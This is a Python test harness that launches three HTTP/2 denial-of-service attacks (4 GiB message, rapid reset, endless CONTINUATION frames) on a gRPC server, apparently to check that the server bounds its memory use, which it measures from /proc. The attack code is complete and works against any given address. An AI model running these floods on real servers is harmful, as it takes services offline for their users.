"""Three HTTP/2 attacks on a gRPC server, bounded in bytes and time.

  big_message(addr, ...)   one stream declares a 4 GiB gRPC message and sends
                           its bytes as fast as flow control lets it
  rapid_reset(addr, ...)   opens streams and resets each at once (HEADERS
                           then RST_STREAM CANCEL), on one connection
  continuation(addr, ...)  a HEADERS frame without END_HEADERS followed by
                           CONTINUATION frames that never end the block

Each returns a Result: what was sent, how it ended (the server's GOAWAY,
RST_STREAM, closed connection, a stall: the server stopped opening its
flow-control window, or the attacker's own bound). The attacker behaves
as a correct HTTP/2 peer in everything else: it sends the preface and its
SETTINGS, acknowledges the server's SETTINGS, answers PINGs (so that
gRPC's BDP probing grows the windows as for a real client) and respects
every window.

A raw framer on the standard library: an HTTP/2 library (hyper-h2) refuses
to send an endless CONTINUATION sequence, and building frames by hand keeps
200,000 streams within seconds. Header blocks use HPACK literals without
indexing, so one encoded block serves every stream.

Over TLS (set_tls()): each connection first completes a TLS handshake
(ALPN h2, a client certificate for mutual TLS), then attacks as above: the
attacks a listener must hold after authentication.

Run as a script for numbers: python3 h2attack.py ATTACK HOST:PORT [--pid N]
  [--tls-ca FILE [--tls-cert FILE --tls-key FILE]]
"""

import argparse
import os
import select
import socket
import ssl
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, \
    CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
SETTINGS_MAX_CONCURRENT_STREAMS = 3
SETTINGS_INITIAL_WINDOW_SIZE, SETTINGS_MAX_FRAME_SIZE = 4, 5
SETTINGS_MAX_HEADER_LIST_SIZE = 6
CANCEL = 8

METHOD = "/istio.mcp.v1alpha1.ResourceSource/EstablishResourceStream"
MIB = 1 << 20

_tls = None  # an ssl.SSLContext: every Conn shakes hands first


def set_tls(ca, cert=None, key=None):
    """Every connection from now on is TLS, verifying the server with |ca|
    (its name not checked: the tests dial 127.0.0.1) and presenting
    |cert| and |key| when given. None: cleartext again."""
    global _tls
    if ca is None:
        _tls = None
        return
    ctx = ssl.create_default_context(ssl.Purpose.SERVER_AUTH, cafile=ca)
    ctx.check_hostname = False
    ctx.set_alpn_protocols(["h2"])
    if cert:
        ctx.load_cert_chain(cert, key)
    _tls = ctx


def frame(ftype, flags, sid, payload=b""):
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, ftype, flags,
                       sid & 0x7FFFFFFF) + payload


def hpack_int(value, prefix_bits, first=0):
    """An HPACK integer with a |prefix_bits| prefix, OR-ed into |first|."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_str(s):
    b = s.encode() if isinstance(s, str) else s
    return hpack_int(len(b), 7) + b


def literal(name, value):
    """Literal header field without indexing, new name (RFC 7541 6.2.2)."""
    return b"\x00" + hpack_str(name) + hpack_str(value)


def literal_indexed_name(index, value):
    """Literal without indexing whose name is static table entry |index|."""
    return hpack_int(index, 4) + hpack_str(value)


def request_block(authority, path=METHOD):
    """The header block of a gRPC request: constant, shareable by streams."""
    return (b"\x83"                             # :method POST
            + b"\x86"                           # :scheme http
            + literal_indexed_name(4, path)     # :path
            + literal_indexed_name(1, authority)  # :authority
            + literal_indexed_name(31, "application/grpc")  # content-type
            + literal("te", "trailers"))


class Result:
    def __init__(self, attack):
        self.attack = attack
        self.sent = 0          # payload bytes of the attack (DATA, blocks)
        self.streams = 0       # streams opened
        self.seconds = 0.0
        self.ended = None      # why the attack stopped
        self.goaway = None     # (last stream id, error code) of a GOAWAY
        self.resets = 0        # RST_STREAM frames received
        self.reset_codes = {}  # error code -> count

    def __repr__(self):
        return ("%s: %.1f MiB, %d streams in %.1f s, ended by %s, goaway %s, "
                "%d resets %s" % (self.attack, self.sent / MIB, self.streams,
                                  self.seconds, self.ended, self.goaway,
                                  self.resets, self.reset_codes))


class Conn:
    """One HTTP/2 client connection over a non-blocking socket: frames out
    through a buffer, frames in parsed and answered by pump()."""

    def __init__(self, addr, result, connect_timeout=5.0):
        host, port = addr.rsplit(":", 1)
        self.sock = socket.create_connection((host, int(port)),
                                             timeout=connect_timeout)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if _tls is not None:  # the handshake, blocking (connect_timeout)
            self.sock = _tls.wrap_socket(self.sock)
            if self.sock.selected_alpn_protocol() != "h2":
                raise OSError("the server did not select h2 (ALPN)")
        self.sock.setblocking(False)
        self.result = result
        self.out = bytearray()
        self.inbuf = bytearray()
        self.closed = False
        self.conn_window = 65535
        self.initial_window = 65535
        self.max_frame = 16384
        self.windows = {}  # stream id -> send window
        self.settings = {}  # the server's SETTINGS, as received
        self.ended_streams = set()  # reset by the server or finished
        self.authority = addr
        # No answer to SETTINGS or PING: within a header block nothing may
        # come between HEADERS and CONTINUATION frames.
        self.quiet = False
        # Our own receive window: large, so that the server never blocks
        # on us (its answers are not what is measured).
        self.out += PREFACE
        self.out += frame(SETTINGS, 0, 0, struct.pack(
            ">HI", SETTINGS_INITIAL_WINDOW_SIZE, (1 << 31) - 1))
        self.out += frame(WINDOW_UPDATE, 0, 0,
                          struct.pack(">I", (1 << 31) - 1 - 65535))

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass

    def open_stream(self, sid):
        self.windows[sid] = self.initial_window

    def flush(self, timeout):
        """Writes what is buffered, waiting at most |timeout| seconds in
        all, reading (and answering) meanwhile. True when all was written."""
        deadline = time.monotonic() + timeout
        while self.out and not self.closed:
            left = deadline - time.monotonic()
            if left <= 0:
                return False
            r, w, _ = select.select([self.sock], [self.sock], [], left)
            if r:
                self._read()
            if w and self.out:
                try:
                    # TLS: at most one record's worth, re-sent as is.
                    n = self.sock.send(self.out[:16384] if _tls else self.out)
                    del self.out[:n]
                except (BlockingIOError, ssl.SSLWantReadError,
                        ssl.SSLWantWriteError):
                    pass
                except OSError:
                    self.closed = True
        return not self.out

    def pump(self, timeout=0.0):
        """Reads and handles what the server sent, waiting up to |timeout|
        for something to arrive."""
        if self.closed:
            return
        pending = _tls is not None and self.sock.pending()
        r, _, _ = select.select([self.sock], [], [], 0 if pending else timeout)
        if r or pending:
            self._read()

    def _read(self):
        try:
            while True:
                b = self.sock.recv(1 << 20)
                if not b:
                    self.closed = True
                    break
                self.inbuf += b
                if len(b) < (1 << 20) and _tls is None:
                    break
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            self.closed = True
        self._parse()

    def _parse(self):
        buf = self.inbuf
        pos = 0
        while len(buf) - pos >= 9:
            hi, lo, ftype, flags, sid = struct.unpack_from(">BHBBI", buf, pos)
            n = (hi << 16) | lo
            if len(buf) - pos < 9 + n:
                break
            payload = bytes(buf[pos + 9:pos + 9 + n])
            pos += 9 + n
            self._frame(ftype, flags, sid & 0x7FFFFFFF, payload)
        del buf[:pos]

    def _frame(self, ftype, flags, sid, p):
        if ftype == SETTINGS and not flags & ACK:
            for i in range(0, len(p) - 5, 6):
                key, value = struct.unpack_from(">HI", p, i)
                self.settings[key] = value
                if key == SETTINGS_INITIAL_WINDOW_SIZE:
                    delta = value - self.initial_window
                    self.initial_window = value
                    for s in self.windows:
                        self.windows[s] += delta
                elif key == SETTINGS_MAX_FRAME_SIZE:
                    self.max_frame = value
            if not self.quiet:
                self.out += frame(SETTINGS, ACK, 0)
        elif ftype == PING and not flags & ACK:
            if not self.quiet:
                self.out += frame(PING, ACK, 0, p)
        elif ftype == WINDOW_UPDATE and len(p) == 4:
            inc = struct.unpack(">I", p)[0] & 0x7FFFFFFF
            if sid == 0:
                self.conn_window += inc
            elif sid in self.windows:
                self.windows[sid] += inc
        elif ftype == RST_STREAM:
            code = struct.unpack(">I", p)[0] if len(p) == 4 else -1
            self.result.resets += 1
            self.result.reset_codes[code] = \
                self.result.reset_codes.get(code, 0) + 1
            self.ended_streams.add(sid)
        elif ftype == HEADERS and flags & END_STREAM:
            self.ended_streams.add(sid)  # trailers: the call ended
        elif ftype == GOAWAY and len(p) >= 8:
            last, code = struct.unpack_from(">II", p)
            self.result.goaway = (last & 0x7FFFFFFF, code)


def big_message(addr, budget=256 * MIB, seconds=20.0, stall=3.0,
                declared=0xFFFFFFFF, stop=None):
    """One stream: a gRPC message prefix declaring |declared| bytes, then
    zeros as fast as the windows allow, until |budget| bytes or |seconds|,
    or the server ends the stream or connection, or opens no window for
    |stall| seconds (it stopped reading: the attack is contained)."""
    res = Result("big_message")
    c = Conn(addr, res)
    t0 = time.monotonic()
    try:
        sid = 1
        c.open_stream(sid)
        c.out += frame(HEADERS, END_HEADERS, sid, request_block(c.authority))
        res.streams = 1
        pending = struct.pack(">BI", 0, declared)
        chunk = bytes(16384)
        last_progress = time.monotonic()
        while True:
            now = time.monotonic()
            if res.sent >= budget:
                res.ended = "budget"
                break
            if stop is not None and stop.is_set():
                res.ended = "stopped"
                break
            if now - t0 >= seconds:
                res.ended = "time"
                break
            if c.closed:
                res.ended = "connection closed"
                break
            if res.goaway:
                res.ended = "goaway"
                break
            if sid in c.ended_streams:
                res.ended = "stream reset" if res.resets else "trailers"
                break
            room = min(c.conn_window, c.windows[sid], c.max_frame,
                       budget - res.sent + len(pending))
            if room <= 0 or len(c.out) > 4 * MIB:
                if not c.flush(min(1.0, seconds - (now - t0))):
                    c.pump(0.05)
                elif room <= 0:
                    c.pump(0.05)
                if room <= 0 and time.monotonic() - last_progress > stall:
                    res.ended = "stall"
                    break
                continue
            body = pending + chunk[:room - len(pending)] if pending else \
                chunk[:room]
            pending = b""
            c.out += frame(DATA, 0, sid, body)
            c.conn_window -= len(body)
            c.windows[sid] -= len(body)
            res.sent += len(body)
            last_progress = time.monotonic()
            if len(c.out) > MIB:
                c.flush(0.0)
                c.pump(0.0)
        c.flush(1.0)
    finally:
        res.seconds = time.monotonic() - t0
        c.close()
    return res


def rapid_reset(addr, streams=200000, seconds=20.0, batch=500, stop=None):
    """Opens |streams| streams, each reset at once after its HEADERS, in
    batches of |batch| per write, within |seconds|."""
    res = Result("rapid_reset")
    c = Conn(addr, res)
    t0 = time.monotonic()
    try:
        block = request_block(c.authority)
        rst = struct.pack(">I", CANCEL)
        sid = 1
        while res.streams < streams:
            if stop is not None and stop.is_set():
                res.ended = "stopped"
                break
            if time.monotonic() - t0 >= seconds:
                res.ended = "time"
                break
            if c.closed:
                res.ended = "connection closed"
                break
            if res.goaway:
                res.ended = "goaway"
                break
            if c.out:  # the server is behind: add nothing until it reads
                c.flush(min(1.0, max(0.0, seconds -
                                     (time.monotonic() - t0))))
                c.pump(0.0)
                continue
            parts = []
            for _ in range(min(batch, streams - res.streams)):
                parts.append(frame(HEADERS, END_HEADERS, sid, block))
                parts.append(frame(RST_STREAM, 0, sid, rst))
                sid += 2
                res.streams += 1
            data = b"".join(parts)
            c.out += data
            res.sent += len(data)
            c.flush(0.0)
            c.pump(0.0)
        else:
            res.ended = "budget"
        c.flush(1.0)
        c.pump(0.2)
    finally:
        res.seconds = time.monotonic() - t0
        c.close()
    return res


def continuation(addr, budget=256 * MIB, seconds=20.0, mode="literal",
                 stop=None, started=None):
    """A HEADERS frame without END_HEADERS, then CONTINUATION frames up to
    |budget| bytes or |seconds|. |mode| "literal": one header whose value
    declares 1 GiB, its bytes spread over the frames (a parser that waits
    for whole fields holds them all); "fields": a stream of small distinct
    header fields (a parser that counts metadata sees each). |started| (a
    threading.Event) is set once the first burst is on the wire, or when
    the attack ends before."""
    res = Result("continuation_" + mode)
    c = Conn(addr, res)
    t0 = time.monotonic()
    try:
        sid = 1
        c.open_stream(sid)
        c.quiet = True
        res.streams = 1
        block = request_block(c.authority)
        if mode == "literal":
            block += b"\x00" + hpack_str("x-flood") + hpack_int(1 << 30, 7)
        c.out += frame(HEADERS, 0, sid, block)
        size = 16384
        if mode == "literal":
            piece = b"a" * size
        else:
            fields = b"".join(literal("x-f%05d" % i, "v" * 40)
                              for i in range(300))
            piece = fields[:size - size % len(literal("x-f00000", "v" * 40))]
        while True:
            if res.sent >= budget:
                res.ended = "budget"
                break
            if stop is not None and stop.is_set():
                res.ended = "stopped"
                break
            if time.monotonic() - t0 >= seconds:
                res.ended = "time"
                break
            if c.closed:
                res.ended = "connection closed"
                break
            if res.goaway:
                res.ended = "goaway"
                break
            # A reset of the stream does not end the block: the server must
            # go on parsing it (HPACK state is per connection).
            burst = frame(CONTINUATION, 0, sid, piece) * 64
            c.out += burst
            res.sent += 64 * len(piece)
            if not c.flush(min(3.0, max(0.0, seconds -
                                        (time.monotonic() - t0)))):
                # Closed, or the server does not read what we send
                # (contained).
                res.ended = "connection closed" if c.closed else "stall"
                break
            if started is not None:
                started.set()
            c.pump(0.0)
        c.pump(0.2)
    finally:
        res.seconds = time.monotonic() - t0
        c.close()
        if started is not None:
            started.set()
    return res


ATTACKS = {
    "big_message": big_message,
    "rapid_reset": rapid_reset,
    "continuation": continuation,
    "continuation_fields": lambda addr, **kw: continuation(
        addr, mode="fields", **kw),
}


# --------------------------------------------------------------------------
# Measuring a server's memory
# --------------------------------------------------------------------------

def status_kib(pid, field):
    """A "VmRSS"/"VmHWM" line of /proc/PID/status, in KiB (None: gone)."""
    try:
        with open("/proc/%d/status" % pid) as f:
            for line in f:
                if line.startswith(field + ":"):
                    return int(line.split()[1])
    except OSError:
        return None
    return None


def open_connections(pid, port):
    """How many TCP connections on local |port| process |pid| still holds
    (its fds' sockets, looked up in /proc/PID/net/tcp{,6}; the listening
    socket not counted); None once it is gone. 0 after an attack: the server
    read up to our close and closed its side, so it did all it will do with
    the bytes we sent."""
    try:
        fds = os.listdir("/proc/%d/fd" % pid)
    except OSError:
        return None
    inodes = set()
    for fd in fds:
        try:
            link = os.readlink("/proc/%d/fd/%s" % (pid, fd))
        except OSError:
            continue  # closed meanwhile
        if link.startswith("socket:["):
            inodes.add(link[8:-1])
    n = 0
    for table in ("tcp", "tcp6"):
        try:
            with open("/proc/%d/net/%s" % (pid, table)) as f:
                rows = f.read().splitlines()[1:]
        except OSError:
            continue
        for row in rows:
            col = row.split()
            # local_address (hex ip:port), st (0A: LISTEN), inode
            if int(col[1].rsplit(":", 1)[1], 16) == port and \
                    col[3] != "0A" and col[9] in inodes:
                n += 1
    return n


def wait_closed(pid, port, timeout):
    """Polls open_connections() until 0 (True) or |timeout| s (False)."""
    deadline = time.monotonic() + timeout
    while True:
        n = open_connections(pid, port)
        if not n:
            return True
        if time.monotonic() > deadline:
            return False
        time.sleep(0.02)


class RssSampler:
    """Samples VmRSS of |pid| every |interval| seconds in a thread; |peak|
    is the largest seen (KiB), |baseline| the first. With |limit_kib|, sets
    |over| (an Event) once the growth passes it: an attack given it as its
    |stop| ends there, so that proving a bound broken costs little."""

    def __init__(self, pid, interval=0.05, limit_kib=None):
        self.pid = pid
        self.limit_kib = limit_kib
        self.over = threading.Event()
        self.interval = interval
        self.baseline = status_kib(pid, "VmRSS")
        self.peak = self.baseline or 0
        self.stop_ev = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self.stop_ev.wait(self.interval):
            v = status_kib(self.pid, "VmRSS")
            if v is None:
                return
            self.peak = max(self.peak, v)
            if self.limit_kib is not None and \
                    self.peak - self.baseline > self.limit_kib:
                self.over.set()

    def stop(self):
        self.stop_ev.set()
        self.thread.join()
        v = status_kib(self.pid, "VmRSS")
        if v is not None:
            self.peak = max(self.peak, v)
        return self


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("attack", choices=sorted(ATTACKS))
    ap.add_argument("address", help="HOST:PORT of the server")
    ap.add_argument("--pid", type=int, help="server pid: report its RSS")
    ap.add_argument("--budget-mib", type=int, default=256)
    ap.add_argument("--streams", type=int, default=200000)
    ap.add_argument("--seconds", type=float, default=20.0)
    ap.add_argument("--settle", type=float, default=60.0,
                    help="after the attack, wait at most this long for the "
                         "server to close its side (it read all we sent) "
                         "before the last RSS")
    ap.add_argument("--tls-ca", help="TLS: the CA that verifies the server")
    ap.add_argument("--tls-cert", help="TLS: our certificate (mutual TLS)")
    ap.add_argument("--tls-key", help="TLS: its key")
    args = ap.parse_args()
    set_tls(args.tls_ca, args.tls_cert, args.tls_key)
    kw = {"seconds": args.seconds}
    if args.attack == "rapid_reset":
        kw["streams"] = args.streams
    else:
        kw["budget"] = args.budget_mib * MIB
    sampler = RssSampler(args.pid) if args.pid else None
    res = ATTACKS[args.attack](args.address, **kw)
    print(res)
    if sampler:
        port = int(args.address.rsplit(":", 1)[1])
        if not wait_closed(args.pid, port, args.settle):
            print("the server still holds a connection after %.0f s"
                  % args.settle)
        sampler.stop()
        after = status_kib(args.pid, "VmRSS")
        hwm = status_kib(args.pid, "VmHWM")
        print("rss baseline %.1f MiB, peak %.1f MiB (+%.1f), after %s MiB, "
              "hwm %s MiB" % (
                  sampler.baseline / 1024, sampler.peak / 1024,
                  (sampler.peak - sampler.baseline) / 1024,
                  "%.1f" % (after / 1024) if after is not None else "gone",
                  "%.1f" % (hwm / 1024) if hwm is not None else "gone"))


if __name__ == "__main__":
    main()
